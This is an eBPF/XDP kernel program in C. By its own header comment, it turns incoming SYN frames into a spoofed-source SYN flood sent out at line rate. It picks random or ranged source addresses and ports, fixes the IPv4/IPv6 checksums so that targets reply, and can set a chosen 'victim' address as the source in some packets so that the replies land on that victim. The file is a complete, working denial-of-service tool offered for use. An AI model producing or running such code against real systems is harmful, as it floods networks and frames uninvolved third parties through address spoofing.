// SPDX-License-Identifier: GPL-2.0-or-later
/*
 * Rewrites the source of a SYN and sends it out where it came in (XDP_TX): run over live frames it
 * is a flood from one machine. Checksums are right, so that the stack behind would answer.
 */
#include "vmlinux.h"
#include <bpf/bpf_helpers.h>
#include <bpf/bpf_endian.h>

/* Set by user space before loading. */
const volatile __u32 is6 = 0;
const volatile __u32 base4 = 0;	 /* first source, host order */
const volatile __u32 span = 0;	 /* that many sources from it on; 0: any of 2^32 */
const volatile __u32 framed = 0; /* one of so many carries `victim` as its source; 0: none */
const volatile __u32 victim = 0; /* host order; IPv6: the low word below the base prefix */
const volatile __u16 ip_sum = 0; /* sums of the template with source and port 0 */
const volatile __u16 tcp_sum = 0;

__u64 sent = 0;
__u64 framing = 0;

static __always_inline __u16 fold(__u32 sum)
{
	sum = (sum & 0xffff) + (sum >> 16);
	sum = (sum & 0xffff) + (sum >> 16);
	return (__u16)~sum;
}

static __always_inline __u32 pick(void)
{
	__u32 random = bpf_get_prandom_u32();

	if (framed && bpf_get_prandom_u32() % framed == 0) {
		__sync_fetch_and_add(&framing, 1);
		return victim;
	}
	return span ? base4 + random % span : random;
}

SEC("xdp")
int flood(struct xdp_md *ctx)
{
	__u8 *data = (void *)(long)ctx->data, *end = (void *)(long)ctx->data_end;
	__u32 source = pick(), port = 1024 + bpf_get_prandom_u32() % 60000;
	__u32 sum = (source >> 16) + (source & 0xffff);

	__sync_fetch_and_add(&sent, 1);
	if (is6) {
		/* The word behind the /64: each a source of its own would need another /64. */
		if (data + 14 + 40 + 20 > end)
			return XDP_DROP;
		*(__be32 *)(data + 14 + 8 + 4) = bpf_htonl(source);
		*(__be16 *)(data + 54) = bpf_htons((__u16)port);
		*(__be16 *)(data + 54 + 16) = bpf_htons(fold(tcp_sum + sum + port));
		return XDP_TX;
	}
	if (data + 14 + 20 + 20 > end)
		return XDP_DROP;
	*(__be32 *)(data + 14 + 12) = bpf_htonl(source);
	*(__be16 *)(data + 14 + 10) = bpf_htons(fold(ip_sum + sum));
	*(__be16 *)(data + 34) = bpf_htons((__u16)port);
	*(__be16 *)(data + 34 + 16) = bpf_htons(fold(tcp_sum + sum + port));
	return XDP_TX;
}

char LICENSE[] SEC("license") = "GPL";
